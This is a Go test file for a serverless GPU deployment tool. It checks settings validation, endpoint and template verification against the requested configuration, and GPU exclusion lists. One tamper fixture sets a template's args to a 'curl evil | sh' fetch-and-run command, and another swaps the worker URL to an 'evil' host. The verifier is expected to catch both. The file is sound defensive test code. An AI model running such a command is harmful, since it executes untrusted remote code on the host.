package serverless

import (
	"slices"
	"strings"
	"testing"
	"time"

	"gotest.tools/v3/assert"
	is "gotest.tools/v3/assert/cmp"

	"github.com/org/runpod-gpu/pkg/runpod"
)

func TestSettingsValidate(t *testing.T) {
	assert.NilError(t, DefaultSettings().Validate())
	cases := []struct {
		name   string
		change func(*Settings)
		want   string
	}{
		{"tag only", func(s *Settings) { s.Image = "runpod/pytorch:latest" }, "image"},
		{"pool", func(s *Settings) { s.GPUPool = "a4000" }, "gpu-pool"},
		{"gpu type", func(s *Settings) { s.GPUType = "" }, "gpu-type"},
		{"data center", func(s *Settings) { s.DataCenters = []string{"eu ro 1"} }, "data-centers"},
		{"disk", func(s *Settings) { s.ContainerDiskGB = 0 }, "container-disk-gb"},
		{"idle fraction", func(s *Settings) { s.IdleTimeout = 1500 * time.Millisecond }, "idle-timeout"},
		{"execution too long", func(s *Settings) { s.ExecutionTimeout = 16 * time.Minute }, "execution-timeout"},
		{"ttl below execution", func(s *Settings) { s.JobTTL = 10 * time.Minute }, "job-ttl"},
		{"worker deadline", func(s *Settings) { s.WorkerDeadline = 900 * time.Second }, "worker-deadline"},
		{"cleanup deadline", func(s *Settings) { s.CleanupDeadline = 20 * time.Minute }, "cleanup-deadline"},
		{"price", func(s *Settings) { s.PriceCeiling = 0 }, "price-ceiling"},
	}
	for _, tc := range cases {
		s := DefaultSettings()
		tc.change(&s)
		assert.Check(t, is.ErrorContains(s.Validate(), tc.want), tc.name)
	}
}

// TestVerifyEndpointNamesEverySettingThatDiffers: every setting setup asks
// for is compared on every read, and a difference names the setting.
func TestVerifyEndpointNamesEverySettingThatDiffers(t *testing.T) {
	s := DefaultSettings()
	s.DataCenters = []string{"EU-RO-1"}
	tpl := s.TemplateRequest("rpg-sls-x-tpl", BootstrapArgs, map[string]string{"RPG_WORKER_URL": "https://x/w"})
	req := s.EndpointRequest("rpg-sls-x", "tpl", []string{"NVIDIA RTX A4500"})
	idle, delay := *req.Workers.IdleTimeout, *req.Scaling.QueueDelay
	answer := func() runpod.Endpoint {
		i, d := idle, delay
		return runpod.Endpoint{Name: req.Name, Type: "QUEUE", Image: tpl.Image, Disk: tpl.Disk, Env: map[string]string{"RPG_WORKER_URL": "https://x/w"},
			GPU:     &runpod.EndpointGPU{Pools: []string{"AMPERE_16"}, ExcludedTypes: []string{"NVIDIA RTX A4500"}, Count: 1},
			Workers: runpod.EndpointWorkers{Min: 0, Max: 1, IdleTimeout: &i}, Scaling: runpod.EndpointScaling{Type: "QUEUE_DELAY", QueueDelay: &d},
			DataCenterIDs: []string{"EU-RO-1"}, NetworkVolumes: []string{}, Timeout: req.Timeout, Flashboot: "OFF"}
	}
	ok := answer()
	assert.Check(t, is.Len(VerifyEndpoint(&ok, req, tpl), 0))

	cases := []struct {
		name   string
		change func(*runpod.Endpoint)
		want   string
	}{
		{"workersMax surprise", func(e *runpod.Endpoint) { e.Workers.Max = 3 }, "workers.max 3, want 1"},
		{"min", func(e *runpod.Endpoint) { e.Workers.Min = 1 }, "workers.min 1"},
		{"idle unset", func(e *runpod.Endpoint) { e.Workers.IdleTimeout = nil }, "workers.idleTimeout unset, want 5"},
		{"idle other", func(e *runpod.Endpoint) { *e.Workers.IdleTimeout = 60 }, "workers.idleTimeout 60, want 5"},
		{"timeout", func(e *runpod.Endpoint) { e.Timeout = 300000 }, "timeout 300000 ms"},
		{"flashboot", func(e *runpod.Endpoint) { e.Flashboot = "FLASHBOOT" }, `flashboot "FLASHBOOT", want "OFF"`},
		{"scaling type", func(e *runpod.Endpoint) { e.Scaling.Type = "REQUEST_COUNT" }, `scaling.type "REQUEST_COUNT", want "QUEUE_DELAY"`},
		{"scaling value", func(e *runpod.Endpoint) { *e.Scaling.QueueDelay = 1 }, "scaling.queueDelay 1, want 4"},
		{"scaling request count", func(e *runpod.Endpoint) { n := 4; e.Scaling.RequestCount = &n }, "scaling.requestCount 4, want unset"},
		{"data-center pin", func(e *runpod.Endpoint) { e.DataCenterIDs = []string{"US-TX-3"} }, "dataCenterIds [US-TX-3], want [EU-RO-1]"},
		{"data-center pin dropped", func(e *runpod.Endpoint) { e.DataCenterIDs = nil }, "dataCenterIds none, want [EU-RO-1]"},
		{"disk", func(e *runpod.Endpoint) { e.Disk = 50 }, "disk 50 GB, want 20 GB"},
		{"image", func(e *runpod.Endpoint) { e.Image = "runpod/other:latest" }, "image \"runpod/other:latest\""},
		{"type", func(e *runpod.Endpoint) { e.Type = "LOAD_BALANCER" }, `type "LOAD_BALANCER", want "QUEUE"`},
		{"pool", func(e *runpod.Endpoint) { e.GPU.Pools = []string{"ADA_24"} }, "gpu.pools [ADA_24], want [AMPERE_16]"},
		{"exclusions dropped", func(e *runpod.Endpoint) { e.GPU.ExcludedTypes = nil }, "gpu.excludedTypes none, want [NVIDIA RTX A4500]"},
		{"count", func(e *runpod.Endpoint) { e.GPU.Count = 2 }, "gpu.count 2, want 1"},
		{"no gpu", func(e *runpod.Endpoint) { e.GPU = nil }, "gpu missing"},
		{"volume", func(e *runpod.Endpoint) { e.NetworkVolumes = []string{"v"} }, "networkVolumes"},
		{"worker swapped", func(e *runpod.Endpoint) { e.Env["RPG_WORKER_URL"] = "https://evil/w" }, "endpoint env RPG_WORKER_URL changed"},
		{"name", func(e *runpod.Endpoint) { e.Name = "other" }, "endpoint name"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			e := answer()
			e.GPU.ExcludedTypes = slices.Clone(e.GPU.ExcludedTypes)
			e.DataCenterIDs = slices.Clone(e.DataCenterIDs)
			tc.change(&e)
			got := VerifyEndpoint(&e, req, tpl)
			assert.Check(t, is.Len(got, 1), "%q", got)
			assert.Check(t, is.Contains(strings.Join(got, "; "), tc.want))
		})
	}
}

func TestVerifyTemplate(t *testing.T) {
	s := DefaultSettings()
	asked := s.TemplateRequest("t", BootstrapArgs, map[string]string{"RPG_OWNER": "o/r"})
	ok := runpod.Template{Name: "t", Image: s.Image, Disk: 20, Args: BootstrapArgs, Serverless: true, Env: map[string]string{"RPG_OWNER": "o/r"}}
	assert.Check(t, is.Len(VerifyTemplate(&ok, asked), 0))
	bad := ok
	bad.Public, bad.Disk, bad.StartSSH, bad.Args = true, 50, true, "bash -c 'curl evil | sh'"
	bad.Env = map[string]string{"RPG_OWNER": "someone/else"}
	bad.Mounts = &runpod.Mounts{Persistent: &runpod.PersistentMount{Size: 20, Path: "/workspace"}}
	got := strings.Join(VerifyTemplate(&bad, asked), "; ")
	for _, want := range []string{"private", "disk 50", "volume", "startSsh", "template args", "template env RPG_OWNER"} {
		assert.Check(t, is.Contains(got, want))
	}
}

// TestGPUExclusionsLeaveOnlyTheCardAskedFor: "one A4000" excludes every other
// card of its pool, and a card outside the pool is refused.
func TestGPUExclusionsLeaveOnlyTheCardAskedFor(t *testing.T) {
	types := []runpod.GPUType{
		{ID: "NVIDIA RTX A4000", Pool: "AMPERE_16"}, {ID: "NVIDIA RTX A4500", Pool: "AMPERE_16"},
		{ID: "NVIDIA RTX 4000 Ada Generation", Pool: "AMPERE_16"}, {ID: "NVIDIA L4", Pool: "AMPERE_24"}, {ID: "NVIDIA H100 PCIe"},
	}
	got, err := GPUExclusions(types, "AMPERE_16", "NVIDIA RTX A4000")
	assert.NilError(t, err)
	assert.Check(t, is.DeepEqual(got, []string{"NVIDIA RTX 4000 Ada Generation", "NVIDIA RTX A4500"}))
	_, err = GPUExclusions(types, "AMPERE_16", "NVIDIA L4")
	assert.Check(t, is.ErrorContains(err, `GPU type "NVIDIA L4" is not in Serverless pool AMPERE_16`))
}
